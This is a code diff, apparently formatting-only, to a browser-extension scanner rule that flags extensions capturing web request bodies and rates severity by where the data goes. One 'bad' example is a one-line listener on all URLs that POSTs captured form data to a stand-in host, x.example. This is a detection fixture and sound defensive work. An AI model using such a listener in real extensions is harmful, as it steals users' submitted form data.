@@ -22,12 +22,17 @@ export const requestBodiesRecorded = defineRule({
       if (!itemsOf(script, call.args[2] ?? 0).some((item) => constant(script, item) === 'requestBody')) continue;
       const fn = functionOf(script, call.args[0] ?? 0);
       const param = fn === undefined ? undefined : script.functions[fn];
-      const reads = new Set(readsNamed(script, 'requestBody').filter((value) => {
-        const pos = script.pos[value] as number;
-        return param === undefined || (pos >= param.start && pos < param.end) || originsOf(script, value).has(call.value);
-      }));
+      const reads = new Set(
+        readsNamed(script, 'requestBody').filter((value) => {
+          const pos = script.pos[value] as number;
+          return (
+            param === undefined || (pos >= param.start && pos < param.end) || originsOf(script, value).has(call.value)
+          );
+        }),
+      );
       const out = leavesBy(script, reads, ['network', 'message', 'storage']);
-      if (out?.kind === 'network') yield hit(call.value, { severity: 'critical', confidence: 'high', message: `They are sent to ${out.to}.` });
+      if (out?.kind === 'network')
+        yield hit(call.value, { severity: 'critical', confidence: 'high', message: `They are sent to ${out.to}.` });
       else if (out !== undefined) yield hit(call.value, { severity: 'high' });
       else if (reads.size > 0) yield hit(call.value);
       else yield hit(call.value, { severity: 'low', message: 'They are asked for, but not seen to be read.' });
@@ -35,12 +40,20 @@ export const requestBodiesRecorded = defineRule({
   }),
   examples: {
     bad: [
-      backgroundExample('chrome.webRequest.onBeforeRequest.addListener((d) => { fetch("https://x.example/b", { method: "POST", body: JSON.stringify(d.requestBody.formData) }); }, { urls: ["<all_urls>"] }, ["requestBody"]);'),
-      backgroundExample('function see(details) { const raw = details.requestBody && details.requestBody.raw; list.push(raw); } const list = []; chrome.webRequest.onBeforeRequest.addListener(see, { urls: ["*://*/*"] }, ["blocking", "requestBody"]);'),
+      backgroundExample(
+        'chrome.webRequest.onBeforeRequest.addListener((d) => { fetch("https://x.example/b", { method: "POST", body: JSON.stringify(d.requestBody.formData) }); }, { urls: ["<all_urls>"] }, ["requestBody"]);',
+      ),
+      backgroundExample(
+        'function see(details) { const raw = details.requestBody && details.requestBody.raw; list.push(raw); } const list = []; chrome.webRequest.onBeforeRequest.addListener(see, { urls: ["*://*/*"] }, ["blocking", "requestBody"]);',
+      ),
     ],
     good: [
-      backgroundExample('chrome.webRequest.onBeforeRequest.addListener((d) => ({ cancel: blocked(d.url) }), { urls: ["<all_urls>"] }, ["blocking"]);'),
-      backgroundExample('app.post("/x", (req) => { save(req.requestBody); }); chrome.webRequest.onCompleted.addListener((d) => count(d), { urls: ["<all_urls>"] });'),
+      backgroundExample(
+        'chrome.webRequest.onBeforeRequest.addListener((d) => ({ cancel: blocked(d.url) }), { urls: ["<all_urls>"] }, ["blocking"]);',
+      ),
+      backgroundExample(
+        'app.post("/x", (req) => { save(req.requestBody); }); chrome.webRequest.onCompleted.addListener((d) => count(d), { urls: ["<all_urls>"] });',
+      ),
     ],
   },
 });
